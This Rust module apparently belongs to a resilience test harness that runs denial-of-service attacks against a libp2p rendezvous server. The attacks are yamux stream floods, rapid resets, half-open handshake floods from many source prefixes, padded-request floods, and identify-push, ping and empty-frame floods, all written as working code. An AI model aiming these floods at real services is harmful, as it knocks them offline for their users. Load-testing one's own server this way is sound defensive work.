//! Attacks on the point's core: what costs the sender little and the point much.

use std::{sync::atomic::Ordering::Relaxed, time::Duration};

use tokio::{task::yield_now, time::sleep};

use super::{Attack, Running, running};
use crate::{
    arena::{Arena, Session, Then},
    raw::{self, Reading, frame},
    request,
};

const UNREAD: Reading = Reading::Frames { pong_delay: Duration::ZERO };

/// Streams that are opened by one write.
const BATCH: usize = 512;

/// Streams with bytes on them that are opened by one write: fewer than the point serves at once on a connection.
const AT_ONCE: usize = 32;

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "stream-flood",
        "streams that are opened and reset at once, without a byte, over 16 connections",
        bare_streams,
    ),
    Attack::new("stream-flood-window", "as stream-flood, by window updates in place of data frames", bare_windows)
        .from(200),
    Attack::new(
        "bulk-bytes",
        "100 connections write DISCOVERs that are padded to 60 KB as fast as they go",
        bulk_bytes,
    )
    .both(),
    Attack::new("bulk-unregister", "as bulk-bytes, with UNREGISTERs, which have no answer", bulk_unregister).from(200),
    Attack::new(
        "identify-streams",
        "identify is asked for on stream after stream, over 16 connections",
        identify_streams,
    )
    .both(),
    Attack::new("rapid-reset", "streams with a DISCOVER that are reset behind it, over 16 connections", rapid_reset)
        .both(),
    Attack::new(
        "handshake-flood",
        "handshakes that stop when the point has done its half, from 200 prefixes",
        handshakes,
    )
    .from(200),
    Attack::new("handshake-whole", "whole connections with noise and yamux that are closed at once", whole_handshakes)
        .both()
        .from(200),
    Attack::new(
        "discover-flood",
        "100 connections with 100 DISCOVERs each at a time that are read, of ten",
        discover_flood,
    ),
    Attack::new("open-close", "TCP connections that are opened and closed at once", open_close).from(200),
    Attack::new(
        "ping-flood",
        "pings of yamux and of libp2p's ping as fast as they go, over 16 connections",
        ping_flood,
    ),
    Attack::new("identify-push", "identify pushes with 3 KB of addresses on stream after stream", identify_push).both(),
    Attack::new("empty-frames", "data frames without a byte on one stream, over 16 connections", empty_frames),
];

/// Writes the same batch of streams again and again, the numbers of the streams set anew.
async fn batches(arena: Arena, number: u32, reading: Reading, append: fn(u32, &mut Vec<u8>)) -> bool {
    let Ok(link) = arena.link(number, reading).await else { return false };
    while !arena.is_over() {
        let mut bytes = Vec::with_capacity(BATCH * 64);
        for _ in 0..BATCH {
            append(link.next_stream(), &mut bytes);
        }
        arena.counts.bytes.fetch_add(bytes.len() as u64, Relaxed);
        if !link.send(bytes).await {
            return false;
        }
        arena.counts.done.fetch_add(BATCH as u64, Relaxed);
        yield_now().await;
    }
    true
}

fn bare_streams(arena: Arena) -> Running {
    running(async move {
        arena
            .each(16, |arena, number| {
                batches(arena, number, UNREAD, |stream, bytes| {
                    frame::data(frame::SYN, stream, &[], bytes);
                    frame::data(frame::RST, stream, &[], bytes);
                })
            })
            .await;
        Ok(())
    })
}

fn bare_windows(arena: Arena) -> Running {
    running(async move {
        arena
            .each(64, |arena, number| {
                batches(arena, number, UNREAD, |stream, bytes| {
                    frame::window(frame::SYN, stream, 0, bytes);
                    frame::window(frame::RST, stream, 0, bytes);
                })
            })
            .await;
        Ok(())
    })
}

fn rapid_reset(arena: Arena) -> Running {
    running(async move {
        arena
            .each(16, |arena, number| async move {
                let Ok(session) = arena.session(number, UNREAD).await else { return false };
                let opening = request::stream(&request::discover(None, 1_000, &[]));
                streams(&arena, &session, &opening, Then::Reset).await
            })
            .await;
        Ok(())
    })
}

/// The same stream again and again, until the end or until the connection is closed.
async fn streams(arena: &Arena, session: &Session, opening: &[u8], then: Then) -> bool {
    while !arena.is_over() {
        if !session.open_many(opening, then, AT_ONCE).await {
            return false;
        }
        arena.counts.done.fetch_add(AT_ONCE as u64, Relaxed);
        arena.counts.bytes.fetch_add((AT_ONCE * opening.len()) as u64, Relaxed);
        // The end of the attack and the other connections need their turn: a queue with room never waits.
        yield_now().await;
    }
    true
}

fn identify_streams(arena: Arena) -> Running {
    running(async move {
        arena
            .each(16, |arena, number| async move {
                let Ok(session) = arena.session(number, Reading::Honest).await else { return false };
                let opening = request::stream_of("/ipfs/id/1.0.0", &[]);
                streams(&arena, &session, &opening, Then::Finish).await
            })
            .await;
        Ok(())
    })
}

fn identify_push(arena: Arena) -> Running {
    running(async move {
        arena
            .each(16, |arena, number| async move {
                let Ok(session) = arena.session(number, Reading::Honest).await else { return false };
                // Field 2 of identify's message, a listen address: /ip4/10.0.0.1/tcp/4001.
                let address = [0x12, 8, 4, 10, 0, 0, 1, 6, 0x0f, 0xa1];
                let mut push = Vec::new();
                rendezvous_wire::frame::append(&address.repeat(300), &mut push);
                let opening = request::stream_of("/ipfs/id/push/1.0.0", &push);
                streams(&arena, &session, &opening, Then::Finish).await
            })
            .await;
        Ok(())
    })
}

/// Pipelines the same request on streams, as far as the point gives window.
async fn bulk(arena: Arena, number: u32, part: Vec<u8>) -> bool {
    match arena.session(number, Reading::Honest).await {
        Err(_) => false,
        Ok(Session::Tcp(link)) => {
            let opening = request::stream(&part);
            let Some(stream) = link.open(&opening).await else { return false };
            let mut sent = opening.len() as u64;
            while !arena.is_over() {
                let window = u64::from(frame::WINDOW_BYTES) + link.window_given(stream);
                if window.saturating_sub(sent) < part.len() as u64 {
                    if link.is_closed() || link.resets_in() > 0 {
                        return false;
                    }
                    link.more_window(arena.end).await;
                    continue;
                }
                let mut bytes = Vec::with_capacity(part.len() + frame::HEADER_BYTES);
                frame::data(0, stream, &part, &mut bytes);
                sent += part.len() as u64;
                arena.counts.bytes.fetch_add(part.len() as u64, Relaxed);
                if !link.send(bytes).await {
                    return false;
                }
            }
            true
        }
        Ok(session) => streams(&arena, &session, &request::stream(&part), Then::Finish).await,
    }
}

fn bulk_bytes(arena: Arena) -> Running {
    running(async move {
        arena
            .each(100, |arena, number| {
                // A cookie that is none: it is read, and refused.
                let part = request::discover(Some("none"), 1, &vec![7; 60_000]);
                bulk(arena, number, part)
            })
            .await;
        Ok(())
    })
}

fn bulk_unregister(arena: Arena) -> Running {
    running(async move {
        arena.each(100, |arena, number| bulk(arena, number, request::padded_unregister(60_000))).await;
        Ok(())
    })
}

fn handshakes(arena: Arena) -> Running {
    running(async move {
        arena
            .each(128, |arena, number| async move {
                let mut turn = number;
                while !arena.is_over() {
                    turn = turn.wrapping_add(128);
                    let source = arena.sources.address(turn);
                    // Any 32 bytes are a point of the curve.
                    let ephemeral = arena.fresh_key().public().to_peer_id().to_bytes();
                    let mut bytes = [9; 32];
                    bytes.copy_from_slice(&ephemeral[ephemeral.len() - 32..]);
                    match raw::half_handshake(source, arena.target.tcp, bytes).await {
                        Ok(_) => arena.counts.done.fetch_add(1, Relaxed),
                        Err(_) => {
                            sleep(Duration::from_millis(1)).await;
                            arena.counts.refused.fetch_add(1, Relaxed)
                        }
                    };
                }
                true
            })
            .await;
        Ok(())
    })
}

fn whole_handshakes(arena: Arena) -> Running {
    running(async move {
        arena
            .each(64, |arena, number| async move {
                let mut turn = number;
                while !arena.is_over() {
                    turn = turn.wrapping_add(64);
                    if let Ok(session) = arena.session(turn, UNREAD).await {
                        arena.counts.done.fetch_add(1, Relaxed);
                        drop(session);
                    } else {
                        sleep(Duration::from_millis(1)).await;
                    }
                }
                true
            })
            .await;
        Ok(())
    })
}

fn discover_flood(arena: Arena) -> Running {
    running(async move {
        arena
            .each(100, |arena, number| async move {
                let Ok(session) = arena.session(number, Reading::Honest).await else { return false };
                let opening = request::stream(&request::discover(None, 10, &[]));
                while !arena.is_over() {
                    for _ in 0..100 {
                        if !session.open(&opening, Then::Finish).await {
                            return false;
                        }
                        arena.counts.done.fetch_add(1, Relaxed);
                    }
                    sleep(Duration::from_millis(20)).await;
                }
                true
            })
            .await;
        Ok(())
    })
}

fn open_close(arena: Arena) -> Running {
    running(async move {
        arena
            .each(64, |arena, number| async move {
                let mut turn = number;
                while !arena.is_over() {
                    turn = turn.wrapping_add(64);
                    match raw::tcp_without_linger(arena.sources.address(turn), arena.target.tcp).await {
                        Ok(_) => arena.counts.done.fetch_add(1, Relaxed),
                        Err(_) => {
                            sleep(Duration::from_millis(1)).await;
                            arena.counts.refused.fetch_add(1, Relaxed)
                        }
                    };
                }
                true
            })
            .await;
        Ok(())
    })
}

fn ping_flood(arena: Arena) -> Running {
    running(async move {
        arena
            .each(16, |arena, number| async move {
                let Ok(link) = arena.link(number, Reading::Honest).await else { return false };
                let opening = request::stream_of("/ipfs/ping/1.0.0", &[]);
                let Some(stream) = link.open(&opening).await else { return false };
                let mut sent = opening.len() as u64;
                while !arena.is_over() {
                    let mut bytes = Vec::with_capacity(128 * 64);
                    for id in 0..128 {
                        frame::header(frame::kind::PING, frame::SYN, 0, id, &mut bytes);
                        // More than the window would end the connection.
                        if sent + 32 <= u64::from(frame::WINDOW_BYTES) + link.window_given(stream) {
                            frame::data(0, stream, &[7; 32], &mut bytes);
                            sent += 32;
                        }
                    }
                    arena.counts.done.fetch_add(128, Relaxed);
                    if !link.send(bytes).await {
                        return false;
                    }
                    yield_now().await;
                }
                true
            })
            .await;
        Ok(())
    })
}

fn empty_frames(arena: Arena) -> Running {
    running(async move {
        arena
            .each(16, |arena, number| async move {
                let Ok(link) = arena.link(number, UNREAD).await else { return false };
                let opening = request::stream(&request::discover(None, 1_000, &[]).repeat(2));
                let Some(stream) = link.open(&opening).await else { return false };
                while !arena.is_over() {
                    let mut bytes = Vec::with_capacity(BATCH * frame::HEADER_BYTES);
                    for _ in 0..BATCH {
                        frame::data(0, stream, &[], &mut bytes);
                    }
                    arena.counts.done.fetch_add(BATCH as u64, Relaxed);
                    if !link.send(bytes).await {
                        return false;
                    }
                    yield_now().await;
                }
                true
            })
            .await;
        Ok(())
    })
}
